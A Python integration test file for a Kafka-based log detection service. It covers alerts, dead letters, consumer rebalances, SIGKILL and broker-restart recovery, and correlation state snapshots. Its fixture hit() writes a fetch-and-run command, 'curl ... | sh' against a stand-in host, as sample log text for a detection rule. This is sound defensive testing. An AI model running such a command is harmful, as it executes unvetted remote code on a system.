"""The Kafka runtime against a real broker (``devservices``): alerts, dead letters,
consumer groups, SIGKILL, an unreachable or restarting broker.

Instances run either in-process (``Service`` with a recording wrapper around the
real alert router) or as ``pipesentry run --config`` subprocesses whose stdout
sink prints one JSON line per alert; either way every alert is observed.
"""

from __future__ import annotations

import asyncio
import subprocess
import time
import uuid
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiokafka import AIOKafkaConsumer, AIOKafkaProducer

from detectors.sigma import screen
from service import metrics
from service.config import Settings
from tests.support.instances import InProcess, Instance, kafka_settings, rules_dir, unique_topic
from tests.support.rules import REPEATED_LOGINS
from tests.support.waits import until

pytestmark = pytest.mark.integration

def hit(n: int) -> bytes:
    return orjson.dumps({"message": f"step {n}: curl -sSf https://x.example/i.sh | sh", "n": n})


def miss(n: int) -> bytes:
    return orjson.dumps({"message": f"step {n}: npm ci", "n": n})


async def produce(bootstrap: str, topic: str, values: list[bytes], partition: int | None = None,
                  keys: list[bytes] | None = None) -> None:
    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, acks="all")
    await producer.start()
    try:
        futures = [await producer.send(topic, value, key=keys[i] if keys else None, partition=partition)
                   for i, value in enumerate(values)]
        await asyncio.gather(*futures)
    finally:
        await producer.stop()


async def test_kcat_and_aiokafka_messages_yield_exactly_the_expected_alerts(kafka_server, tmp_path):
    ci, sshd, dlq = unique_topic("ci"), unique_topic("sshd"), unique_topic("dlq")
    for topic in (ci, sshd, dlq):
        kafka_server.create_topic(topic, 1)
    # kcat, an independent client: JSON lines and a malformed one
    lines = [hit(0), miss(1), b"{not json", hit(3)]
    subprocess.run(["kcat", "-P", "-b", kafka_server.bootstrap, "-t", ci, "-H", "origin=kcat"],
                   input=b"\n".join(lines) + b"\n", check=True, timeout=30)
    # aiokafka: syslog lines, one of them not syslog at all
    await produce(kafka_server.bootstrap, sshd, [
        b"<38>Feb  5 17:32:18 runner-7 sshd[4121]: Failed password for root from 203.0.113.9 port 22",
        b"<38>1 2026-02-05T17:32:19Z runner-7 sshd 4122 - - Failed password for root from 203.0.113.9",
        b"<38>Feb  5 17:32:20 runner-7 sshd[4123]: Accepted publickey for deploy",
        b"\xff\xfe binary garbage"], keys=[b"k0", b"k1", b"k2", b"k3"])
    settings = kafka_settings(tmp_path, kafka_server.bootstrap, {
        ci: {"decoder": "json", "logsource": {"category": "ci_job_log"}},
        sshd: {"decoder": "syslog", "logsource": {"product": "linux", "service": "sshd"}},
    }, dead_letter_topic=dlq)
    screened = metrics.EVENTS_SCREENED.labels("kafka")._value.get()
    async with InProcess(settings) as running:
        await until(lambda: len(running.router.alerts) >= 4, 60, "4 alerts")
        await asyncio.sleep(1.0)  # nothing more may arrive
        # the native screen cleared the one plain JSON line no rule can match (syslog is not screened)
        assert metrics.EVENTS_SCREENED.labels("kafka")._value.get() - screened == (1 if screen.AVAILABLE else 0)
        tokens = sorted((a.rule.title, a.origin.token()) for a in running.router.alerts)
        assert tokens == sorted([
            ("Remote Script Piped Into A Shell", f"kafka:{ci}:0:0"),
            ("Remote Script Piped Into A Shell", f"kafka:{ci}:0:3"),
            ("Root Login Failure", f"kafka:{sshd}:0:0"),
            ("Root Login Failure", f"kafka:{sshd}:0:1"),
        ])
        runner = running.service.kafka
        assert runner is not None
        await until(lambda: runner.tracker.committed.get(_tp(ci)) == 4
                       and runner.tracker.committed.get(_tp(sshd)) == 4, 30, "offsets committed")
        stored = running.router.inner.store.get(running.router.alerts[0].id)
        assert stored is not None and stored["rule"]["author"] == "tests"

    dead = await consume_all(kafka_server.bootstrap, dlq, 2)
    by_topic = {dict(m.headers)["pipesentry.source_topic"].decode(): m for m in dead}
    ci_dead = by_topic[ci]
    headers = dict(ci_dead.headers)
    assert ci_dead.value == b"{not json"
    assert headers["origin"] == b"kcat"  # the original headers travel along
    assert headers["pipesentry.source_partition"] == b"0" and headers["pipesentry.source_offset"] == b"2"
    assert headers["pipesentry.reason"] == b"decode" and b"invalid JSON" in headers["pipesentry.error"]
    ssh_dead = by_topic[sshd]
    assert ssh_dead.value == b"\xff\xfe binary garbage" and ssh_dead.key == b"k3"
    assert dict(ssh_dead.headers)["pipesentry.source_offset"] == b"3"


def _tp(topic: str, partition: int = 0) -> Any:
    from aiokafka import TopicPartition

    return TopicPartition(topic, partition)


async def consume_all(bootstrap: str, topic: str, count: int, timeout: float = 30) -> list[Any]:
    consumer = AIOKafkaConsumer(topic, bootstrap_servers=bootstrap, auto_offset_reset="earliest",
                                group_id=None, enable_auto_commit=False)
    await consumer.start()
    records: list[Any] = []
    try:
        deadline = time.monotonic() + timeout
        while len(records) < count and time.monotonic() < deadline:
            for batch in (await consumer.getmany(timeout_ms=500)).values():
                records.extend(batch)
    finally:
        await consumer.stop()
    assert len(records) == count, f"expected {count} records in {topic}, got {len(records)}"
    return records


def instance_config(bootstrap: str, topic: str, group: str, rules: Path) -> dict[str, Any]:
    return {
        "kafka": {"bootstrap_servers": [bootstrap], "group_id": group, "commit_interval_s": 0.2,
                  "session_timeout_ms": 6000, "heartbeat_interval_ms": 1000, "max_batch": 200,
                  "connect_backoff_initial_s": 0.2, "connect_backoff_max_s": 1.0,
                  "topics": {topic: {"decoder": "json", "logsource": {"category": "ci_job_log"}}}},
        "rules": {"paths": [str(rules)], "watch": False},
        "alerting": {"sinks": [{"type": "stdout"}, {"type": "store"}]},
    }


def check_alerts(alerts: list[dict[str, Any]], topic: str, expected_offsets: dict[int, range]) -> int:
    """Every expected event alerted at least once; every duplicate carries the same id. Returns duplicates."""
    ids: dict[str, set[str]] = {}
    for alert in alerts:
        ids.setdefault(alert["source"], set()).add(alert["alert_id"])
    expected = {f"kafka:{topic}:{p}:{o}" for p, offsets in expected_offsets.items() for o in offsets}
    missing = expected - set(ids)
    assert not missing, f"{len(missing)} expected alerts missing, e.g. {sorted(missing)[:5]}"
    assert set(ids) == expected, f"unexpected alerts: {sorted(set(ids) - expected)[:5]}"
    assert all(len(v) == 1 for v in ids.values()), "duplicates with different ids"
    return len(alerts) - len(ids)


@pytest.mark.slow
async def test_two_instances_split_partitions_and_survive_a_sigkill(kafka_server, tmp_path):
    topic = unique_topic("ci-group")
    kafka_server.create_topic(topic, 4)
    config = instance_config(kafka_server.bootstrap, topic, f"grp-{uuid.uuid4().hex[:8]}", rules_dir(tmp_path))
    first = Instance(tmp_path, "a", config)
    second = Instance(tmp_path, "b", config)
    try:
        await until(lambda: _both_ready(first, second), 90, "both instances ready")
        await until(lambda: _split(first, second), 60, "partitions split 2 + 2")
        per_partition = 250
        # first half, then SIGKILL one instance in the middle of the stream, then the second half
        for p in range(4):
            await produce(kafka_server.bootstrap, topic, [hit(p * 10_000 + i) for i in range(per_partition)], p)
        await until(lambda: len(second.alerts()) > 0, 60, "the second instance alerting")
        second.kill()
        for p in range(4):
            await produce(kafka_server.bootstrap, topic,
                          [hit(p * 10_000 + i) for i in range(per_partition, 2 * per_partition)], p)
        expected = {p: range(2 * per_partition) for p in range(4)}

        def complete() -> bool:
            sources = {a["source"] for a in first.alerts() + second.alerts()}
            return len(sources) >= 4 * 2 * per_partition

        await until(complete, 120, "every alert after the kill")
        assert first.alive(), first.log()
        duplicates = check_alerts(first.alerts() + second.alerts(), topic, expected)
        assert await first.metric("pipesentry_kafka_partitions_assigned") == 4
        print(f"duplicates after SIGKILL: {duplicates}")
    finally:
        first.stop()
        second.stop()


async def _both_ready(a: Instance, b: Instance) -> bool:
    return await a.ready() and await b.ready()


async def _split(a: Instance, b: Instance) -> bool:
    counts = (await a.metric("pipesentry_kafka_partitions_assigned"),
              await b.metric("pipesentry_kafka_partitions_assigned"))
    return counts == (2.0, 2.0)


@pytest.mark.slow
async def test_rebalance_when_an_instance_joins_mid_stream(kafka_server, tmp_path):
    topic = unique_topic("ci-join")
    kafka_server.create_topic(topic, 4)
    config = instance_config(kafka_server.bootstrap, topic, f"grp-{uuid.uuid4().hex[:8]}", rules_dir(tmp_path))
    first = Instance(tmp_path, "a", config)
    second: Instance | None = None
    sent = [0]
    joined = asyncio.Event()
    try:
        await until(first.ready, 90, "first instance ready")
        producing = asyncio.create_task(_produce_until(kafka_server.bootstrap, topic, sent, joined))
        await until(lambda: len(first.alerts()) > 50, 60, "first alerts")
        second = Instance(tmp_path, "b", config)  # joins: partitions are revoked and reassigned mid-stream
        await until(second.ready, 90, "second instance ready")
        joined.set()
        await producing
        total = sent[0]
        await until(lambda: len({a["source"] for a in first.alerts() + second.alerts()}) >= 4 * total, 120,
                       "every alert across the rebalance")
        check_alerts(first.alerts() + second.alerts(), topic, {p: range(total) for p in range(4)})
        assert second.alerts(), "the joining instance got partitions and work"
    finally:
        first.stop()
        if second is not None:
            second.stop()


async def _produce_until(bootstrap: str, topic: str, sent: list[int], joined: asyncio.Event) -> None:
    """20 events per partition every 0.1 s until the second instance joined, then 10 rounds more."""
    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, acks="all")
    await producer.start()
    extra = 10
    try:
        while extra > 0:
            start = sent[0]
            futures = [await producer.send(topic, hit(p * 100_000 + i), partition=p)
                       for p in range(4) for i in range(start, start + 20)]
            await asyncio.gather(*futures)
            sent[0] = start + 20
            if joined.is_set():
                extra -= 1
            await asyncio.sleep(0.1)
    finally:
        await producer.stop()


@pytest.mark.slow
async def test_unreachable_broker_at_start_then_broker_restart_mid_stream(kafka_factory, tmp_path):
    broker = kafka_factory()
    topic = unique_topic("ci-restart")
    broker.create_topic(topic, 2)
    broker.stop()
    instance = Instance(tmp_path, "a", instance_config(broker.bootstrap, topic, "grp-restart", rules_dir(tmp_path)))
    try:
        await until(lambda: instance.get("/healthz"), 60, "the API to answer")
        await until(lambda: _metric_at_least(instance, "pipesentry_kafka_connect_errors_total", 2), 60,
                       "connection retries")
        assert not await instance.ready() and instance.alive()
        readyz = await instance.get("/readyz")
        assert readyz is not None and readyz.json()["checks"]["kafka_partitions_assigned"] is False

        broker.restart()
        await until(instance.ready, 90, "ready once the broker is up")
        await produce(broker.bootstrap, topic, [hit(i) for i in range(100)], 0)
        await produce(broker.bootstrap, topic, [hit(1000 + i) for i in range(100)], 1)
        await until(lambda: len(instance.alerts()) >= 200, 60, "first half of the alerts")
        broker.restart()  # mid-stream: consumer and commits fail for a while, then resume
        await produce(broker.bootstrap, topic, [hit(i) for i in range(100, 200)], 0)
        await produce(broker.bootstrap, topic, [hit(1000 + i) for i in range(100, 200)], 1)
        await until(lambda: len({a["source"] for a in instance.alerts()}) >= 400, 120,
                       "every alert after the broker restart")
        check_alerts(instance.alerts(), topic, {0: range(200), 1: range(200)})
        assert instance.alive(), instance.log()
    finally:
        instance.stop()
        broker.stop()


async def _metric_at_least(instance: Instance, name: str, value: float) -> bool:
    response = await instance.get("/metrics")
    return response is not None and await instance.metric(name) >= value


# --- stateful detectors: periodic snapshots survive a SIGKILL ----------------------------------

LOGIN_RULES = REPEATED_LOGINS.replace("timespan: 1m", "timespan: 1h")
"""The failed-login correlation over an hour: events a few seconds apart stay in one window."""


def login(n: int, user: str, at: float | None = None) -> bytes:
    """A failed login at event time ``at`` (default: a fixed day, ``n`` seconds in)."""
    return orjson.dumps({"message": "login failed", "user": user, "time": 1_767_323_045 + n if at is None else at})


def saved_offset(instance: Instance, topic: str) -> int | None:
    from service.state_store import StateStore

    doc = StateStore(instance.dir / "data" / "state").load(f"kafka:{topic}:0", "partition")
    return doc.get("offset") if doc else None


async def changelog_offset(bootstrap: str, changelog: str, topic: str) -> int | None:
    """The offset of partition 0's snapshot in the changelog topic (``state.snapshots: kafka``)."""
    from service.config import KafkaSettings
    from service.state_changelog import ChangelogStore
    from service.state_store import StateStore

    kafka = KafkaSettings(bootstrap_servers=[bootstrap], topics={topic: {}}, group_id="reader")
    store = ChangelogStore(StateStore("/nonexistent"), kafka, changelog, 1)
    try:
        doc = await store.load_async(f"kafka:{topic}:0", "partition")
    finally:
        await store.stop()
    return doc.get("offset") if doc else None


@pytest.mark.parametrize("snapshots", ["local", "kafka"])
async def test_correlation_state_survives_a_sigkill_through_periodic_snapshots(kafka_server, tmp_path, snapshots):
    """Two logins, a periodic snapshot, SIGKILL (no handover), a second process: the third login fires once.
    ``local``: the instance restarted on its own data dir; ``kafka`` (``state.snapshots: kafka``): another
    instance with an empty data dir of its own, which restores the state from the changelog topic."""
    topic, changelog = unique_topic("ci-state"), unique_topic("changelog")
    kafka_server.create_topic(topic, 1)
    rules = tmp_path / "login-rules"
    rules.mkdir()
    (rules / "logins.yml").write_text(LOGIN_RULES)
    state: dict[str, Any] = {"snapshot_interval_s": 0.3, "heartbeat_interval_s": 0.5}
    if snapshots == "kafka":
        state.update(snapshots="kafka", changelog_topic=changelog, changelog_partitions=1)
    config = {**instance_config(kafka_server.bootstrap, topic, f"grp-{uuid.uuid4().hex[:8]}", rules), "state": state}
    first = Instance(tmp_path, "a", config)

    async def saved_at_3() -> bool:
        if snapshots == "kafka":
            return await changelog_offset(kafka_server.bootstrap, changelog, topic) == 3
        return saved_offset(first, topic) == 3

    try:
        await until(first.ready, 90, "first instance ready")
        # event times follow the wall clock, as a live producer's do: the restored scope clock
        # moves on with the wall clock while the instance is down, so fixed past times would
        # turn late whenever the restart takes longer than the allowed lateness
        t0 = time.time()
        await produce(kafka_server.bootstrap, topic,
                      [login(0, "bob", t0), login(1, "bob", t0 + 1), login(2, "amy", t0 + 2)], 0)
        await until(saved_at_3, 60, f"a snapshot at the committed offset 3\n{first.log()}")
        first.kill()
        assert first.alerts() == []
    finally:
        first.stop()
    # the next process restores bob's two logins and continues; amy stays at two
    second = first.restarted() if snapshots == "local" else Instance(tmp_path, "b", config)
    try:
        await until(second.ready, 90, "second process ready")
        now = time.time()
        await produce(kafka_server.bootstrap, topic, [login(3, "bob", now), login(4, "amy", now)], 0)
        await until(lambda: len(second.alerts()) >= 1, 60, f"the correlation alert\n{second.log()}")
        await asyncio.sleep(1.0)  # a duplicate would show up within a few commit intervals
        alerts = second.alerts()
        assert [a["rule"]["name"] for a in alerts] == ["Repeated Failed Logins"], second.log()
    finally:
        second.stop()


async def test_a_snapshot_behind_the_committed_offset_rewinds_the_partition(kafka_server, tmp_path):
    """State saved at offset 2, offsets up to 4 committed before a crash: the records 2..3 are read again."""
    from aiokafka import TopicPartition

    from detectors.model import LogSource
    from service.detection import Detector, compile_detection
    from service.sources.base import Item
    from service.state_store import StateStore

    topic = unique_topic("ci-rewind")
    kafka_server.create_topic(topic, 1)
    group = f"grp-{uuid.uuid4().hex[:8]}"
    tp = TopicPartition(topic, 0)
    await produce(kafka_server.bootstrap, topic,
                  [login(0, "bob"), login(1, "bob"), login(2, "amy"), login(3, "bob"), login(4, "amy")], 0)
    committer = AIOKafkaConsumer(bootstrap_servers=kafka_server.bootstrap, group_id=group, enable_auto_commit=False)
    await committer.start()
    try:
        committer.assign([tp])
        await committer.commit({tp: 4})
    finally:
        await committer.stop()

    rules = tmp_path / "login-rules"
    rules.mkdir()
    (rules / "logins.yml").write_text(LOGIN_RULES)
    before = Detector(compile_detection([rules], [], skip_invalid=False).detection)
    before.process([Item(orjson.loads(login(i, "bob")), (topic, 0, i), LogSource(category="ci_job_log"),
                         ("time",), 0.0) for i in (0, 1)], now=time.time())
    store = StateStore(tmp_path / "data" / "state")
    for name, snapshot in before.export_scope((topic, 0)).items():
        store.save(f"kafka:{topic}:0", name, {"offset": 2, "snapshot": snapshot, "clock": None})

    settings = Settings(
        data_dir=tmp_path / "data",
        kafka={"bootstrap_servers": [kafka_server.bootstrap], "group_id": group, "commit_interval_s": 0.2,
               "topics": {topic: {"decoder": "json", "logsource": {"category": "ci_job_log"}}}},
        rules={"paths": [str(rules)], "watch": False}, correlation={"allowed_lateness": 0},
        alerting={"sinks": [{"type": "store"}]}, api={"enabled": False}, stdin={"enabled": False})
    async with InProcess(settings) as running:
        runner = running.service.kafka
        await until(lambda: runner.tracker.committed.get(tp) == 5, 60, "offset 5 committed")
        alerts = list(running.router.alerts)
    # bob: 2 restored + offset 3 re-read = 3 -> one alert; amy: offsets 2 and 4 -> none
    assert [(a.rule.title, a.details["group"]) for a in alerts] == [("Repeated Failed Logins", {"user": "bob"})]
    assert [c["ref"] for c in alerts[0].details["contributors"]] == [
        f"kafka:{topic}:0:0", f"kafka:{topic}:0:1", f"kafka:{topic}:0:3"]


# --- state.scope: instance ------------------------------------------------------------------

SIGMA_RULES = Path(__file__).resolve().parents[2] / "sigma-rules"


async def test_instance_scope_correlates_events_of_two_topics(kafka_server, tmp_path):
    """Branch protection removed (audit topic), then a forced push (webhook topic) of the same repository."""
    audit, pushes = unique_topic("gh-audit"), unique_topic("gh-push")
    kafka_server.create_topic(audit, 1)
    kafka_server.create_topic(pushes, 2)
    case = orjson.loads((SIGMA_RULES / "correlations" / "github_protection_removed_then_force_push.events.json")
                        .read_bytes())["match"][0]
    by_source = {step["logsource"]: step["event"] for step in case}
    rules = [SIGMA_RULES / "github" / "github_audit_branch_protection_removed.yml",
             SIGMA_RULES / "github" / "github_webhook_force_push_protected_branch.yml",
             SIGMA_RULES / "correlations" / "github_protection_removed_then_force_push.yml"]
    base = kafka_settings(tmp_path, kafka_server.bootstrap, {
        audit: {"logsource": {"product": "github", "service": "audit"}},
        pushes: {"logsource": {"product": "github", "service": "webhook"}}})
    settings = base.model_copy(update={
        "rules": base.rules.model_copy(update={"paths": rules}),
        "events": base.events.model_copy(update={"timestamp_fields": ["@timestamp", "repository.pushed_at"]}),
        "state": base.state.model_copy(update={"scope": "instance"})})
    await produce(kafka_server.bootstrap, audit, [orjson.dumps(by_source["product=github,service=audit"])])
    title = "GitHub Branch Protection Removed Then Force Push"
    async with InProcess(settings) as running:
        # in that order, as it happens: the push is four minutes later, beyond correlation.allowed_lateness
        await until(lambda: len(running.router.alerts) == 1, 60, "the protection-removed alert")
        await produce(kafka_server.bootstrap, pushes, [orjson.dumps(by_source["product=github,service=webhook"])],
                      partition=1)
        await until(lambda: any(a.rule.title == title for a in running.router.alerts), 60,
                       "the cross-topic correlation alert")
        await until(lambda: len(running.router.alerts) >= 3, 30, "both base alerts")
    titles = [a.rule.title for a in running.router.alerts]
    assert titles.count(title) == 1 and len(titles) == 3, titles
    fired = next(a for a in running.router.alerts if a.rule.title == title)
    assert fired.details["group"] == {"repository": "acme/payments"}
    saved = sorted(p.name for p in (settings.data_dir / "state").iterdir())
    assert saved == ["local"], saved  # no per-partition snapshots in instance scope
